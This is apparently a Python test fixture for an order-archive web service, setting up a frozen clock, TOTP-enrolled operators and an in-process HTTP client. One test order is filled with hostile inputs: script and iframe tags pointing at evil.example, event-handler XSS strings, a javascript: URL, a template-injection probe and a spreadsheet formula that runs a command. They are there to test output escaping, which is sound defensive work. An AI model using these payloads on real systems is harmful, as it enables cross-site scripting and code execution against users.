"""A service in this process: an archive that was really sealed, operators, a clock that stands.

Everybody shares one world, which is sealed and opened once a run. Its clock moves on by more than
a week between two tests, so that no session and no window of the watch outlives its test.
"""

import asyncio
import random
import threading
import tomllib
from collections.abc import Callable, Coroutine, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any, Final, TypeVar

import httpx
import pyotp
from fastapi import FastAPI
from sqlalchemy import event

from archiver.configuration import parse_configuration
from archiver.desk import Desk
from archiver.operators import Enrolment
from archiver.policy import Role
from archiver.service.app import Pages, create_app
from archiver.service.house import Service
from archiver.state import State
from archiver.stores.directory import DirectoryStore
from archiver.wiring import Installation
from tests.archives import Row
from tests.clock import FrozenClock
from tests.desk import Desk as ShopDesk
from tests.desk import at, founded
from tests.lookup.bazaar import MAPPING, a_row
from tests.operators.people import PASSWORD

T = TypeVar("T")
HOME: Final = "203.0.113.7"
AWAY: Final = timedelta(days=8)
"""Between two tests."""
PEOPLE: Final = {
    "root": Role.ADMINISTRATOR,
    "sue": Role.SUPPORT,
    "carol": Role.COMPLIANCE,
    "dora": Role.COMPLIANCE,
    "kai": Role.CUSTODIAN,
    "audrey": Role.AUDITOR,
}
CONFIGURATION: Final = """
[archive]
name = "shop-1"
role = "platform"
legal_basis = "电子商务法第三十一条"
[store]
url = "dir:vault"
[[source]]
name = "main"
preset = "dujiaoka"
url = "sqlite:///shop.db"
"""

HOSTILE: Final = {
    "contact": '"><script src=//evil.example>steal()</script>@qq.com',
    "account": "=cmd|'/C calc'!A0",
    "product": "</td><img src=x onerror=alert(1)> {{ 7 * 7 }}",
    "merchant": "mx",
    "merchant_name": "<svg/onload=alert(2)>",
    "channel": "javascript:alert(3)",
    "trade_no": "2026999988887777666655554444",
    "own_no": "' onfocus=alert(4) autofocus x='",
    "target": "<iframe src=//evil.example></iframe>",
    "state": "done",
}
"""What a buyer or a merchant may have written into his own order."""


def at_once(work: Callable[[], None]) -> None:
    """Do what is begun behind whoever asks before he is answered."""
    work()


class Loop:
    """An event loop in a thread of its own."""

    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()

    def run(self, coroutine: Coroutine[Any, Any, T]) -> T:
        """Wait for something that runs in it."""
        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(60)

    def close(self) -> None:
        """End it, and the threads that it has started."""
        self.run(self.loop.shutdown_default_executor())
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join()
        self.loop.close()


@dataclass(slots=True, kw_only=True)
class Browser:
    """Somebody at some address: cookies, a language, a session's token against forgery."""

    world: "World"
    client: httpx.AsyncClient
    name: str = ""
    csrf: str = ""

    def ask(
        self,
        method: str,
        path: str,
        body: Any = None,  # noqa: ANN401  whatever JSON has
        *,
        headers: Mapping[str, str] | None = None,
        **more: Any,  # noqa: ANN401  passed on
    ) -> httpx.Response:
        """Send a request as a page of ours does."""
        told = {"x-csrf-token": self.csrf} if self.csrf else {}
        told |= headers or {}
        if body is not None:
            more["json"] = body
        return self.world.loop.run(self.client.request(method, path, headers=told, **more))

    def post(self, path: str, body: Any = None, **more: Any) -> httpx.Response:  # noqa: ANN401
        """Send a POST."""
        return self.ask("POST", path, {} if body is None else body, **more)

    def get(self, path: str, **more: Any) -> httpx.Response:  # noqa: ANN401
        """Send a GET."""
        return self.ask("GET", path, **more)

    def login(self, name: str) -> httpx.Response:
        """Log in with a code that was not used before."""
        body = {"name": name, "password": PASSWORD, "code": self.world.code(name)}
        answer = self.post("/v1/session", body)
        if answer.status_code == 201:
            self.name, self.csrf = name, answer.json()["csrf"]
        return answer

    def find(self, **asked: Any) -> httpx.Response:  # noqa: ANN401
        """Ask for orders."""
        return self.post("/v1/orders/find", {"purpose": "售后", **asked})


@dataclass(slots=True)
class Mail:
    """Who carries codes: into a list."""

    sent: list[tuple[str, str]] = field(default_factory=list)

    def reaches(self, contact: str) -> bool:
        """Tell that it reaches everybody."""
        return bool(contact)

    def carry(self, contact: str, code: str) -> None:
        """Keep it."""
        self.sent.append((contact, code))


@dataclass(slots=True, kw_only=True)
class Site:
    """The shop's own site with its token."""

    browser: Browser
    secret: str
    name: str

    def ask(self, path: str, **asked: Any) -> httpx.Response:  # noqa: ANN401
        """Ask for a buyer."""
        body = {"address": "198.51.100.9", **asked}
        return self.browser.post(path, body, headers={"authorization": f"Bearer {self.secret}"})


@dataclass(slots=True, kw_only=True)
class World:
    """The service and all that belongs to it."""

    installation: Installation
    clock: FrozenClock
    rows: list[Row]
    """What the shop had, oldest first."""
    app: FastAPI
    loop: Loop
    enrolled: Mapping[str, Enrolment]
    shop: ShopDesk
    mail: Mail = field(default_factory=Mail)
    pauses: list[float] = field(default_factory=list)
    """How long answers were held back."""
    seconds: float = 0.0
    """Of the clock for limits of requests."""
    _browsers: list[httpx.AsyncClient] = field(default_factory=list)

    def browser(self, address: str = HOME, **headers: str) -> Browser:
        """Give somebody at an address."""
        client = httpx.AsyncClient(
            transport=httpx.ASGITransport(self.app, client=(address, 4711)),
            base_url="https://127.0.0.1",
            headers=headers,
        )
        self._browsers.append(client)
        return Browser(world=self, client=client)

    def operator(self, name: str, address: str = HOME) -> Browser:
        """Give an operator who is logged in."""
        browser = self.browser(address)
        answer = browser.login(name)
        assert answer.status_code == 201, answer.text
        return browser

    def code(self, name: str) -> str:
        """Return a code of somebody's phone that was not used before."""
        self.clock.advance(timedelta(seconds=30))
        return pyotp.TOTP(self.enrolled[name].secret).at(self.clock.now())

    def site(self, name: str, budget: int = 2_000) -> Site:
        """Give the shop's site a new token."""
        given = self.service.tokens.add(name, daily_budget=budget, by="root")
        return Site(browser=self.browser("192.0.2.80"), secret=given.secret, name=name)

    @property
    def service(self) -> Service:
        """What all requests share."""
        found: Service = self.app.state.service
        return found

    def settle(self) -> None:
        """Wait until what goes on behind answers is done."""
        teller = self.service.teller
        for one in [teller._senders.submit(lambda: None) for _ in range(2)]:
            one.result(30)

    def log(self, last: int = 20) -> list[Any]:
        """Return the newest entries of the access log."""
        return [one.entry for one in self.desk.access_log.entries(limit=last)]

    @property
    def desk(self) -> Desk:
        """The service's own desk."""
        return self.service.desk

    def seal(self, rows: list[Row], day: int) -> None:
        """Let a night seal a day of March, of what the shop has by now."""
        source = self.shop.source
        source.held[:] = rows
        assert self.shop.night_of(day).failures == []

    def later(self, span: timedelta) -> None:
        """Let time pass, for sessions, windows and limits alike."""
        self.clock.advance(span)
        self.seconds += span.total_seconds()


def hasten(state: State) -> None:
    """Let a state's commits not wait for the disk: nothing here is about a power cut."""

    def relax(connection: Any, _record: object) -> None:  # noqa: ANN401  the driver's own
        connection.execute("PRAGMA synchronous = OFF").close()

    event.listen(state.engine, "connect", relax)


def shop_rows(count: int) -> list[Row]:
    """Return orders of two days; the last one is of somebody who attacks whoever reads it."""
    random_ = random.Random(7)
    rows = [
        a_row(random_, n + 1, at(2 + n % 2) + timedelta(seconds=n), shop=0) for n in range(count)
    ]
    hostile = a_row(random_, count + 1, at(3) + timedelta(seconds=count), shop=0)
    return [*rows, {**hostile, **HOSTILE}]


@contextmanager
def living(
    folder: Path, *, orders: int = 60, configuration: str = "", pages: Pages | None = None
) -> Iterator[World]:
    """Found an archive, seal two days, hire operators, open the service."""
    clock = FrozenClock(at(2, 0))
    store = DirectoryStore(folder / "vault", clock)
    rows = shop_rows(orders)
    desk = founded(folder, rows, mapping=MAPPING, clock=clock, store=store)
    for day in (2, 3):
        assert desk.night_of(day).failures == []
    config = folder / "archiver.toml"
    config.write_text(CONFIGURATION + configuration, "utf-8")
    installation = Installation(
        parse_configuration(tomllib.loads(config.read_text("utf-8"))), folder, {}, clock
    )
    hasten(installation.state)
    enrolled: dict[str, Enrolment] = {}
    counter = Desk.at(installation)
    for name, role in PEOPLE.items():
        register = counter.register if enrolled else counter.owners_register()
        enrolled[name] = register.add(name, role, PASSWORD, by="root" if enrolled else None)
    loop = Loop()
    world = World(
        installation=installation,
        clock=clock,
        rows=rows,
        app=FastAPI(),
        loop=loop,
        enrolled=enrolled,
        shop=desk,
    )

    async def pause(seconds: float) -> None:
        world.pauses.append(seconds)

    world.app = create_app(
        installation,
        config,
        pages=pages,
        seconds=lambda: world.seconds,
        pause=pause,
        courier=world.mail,
        begin=at_once,
    )
    try:
        yield world
    finally:
        for browser in world._browsers:
            loop.run(browser.aclose())
        world.service.teller.close()
        world.service.library.close()
        installation.state.close()
        loop.close()
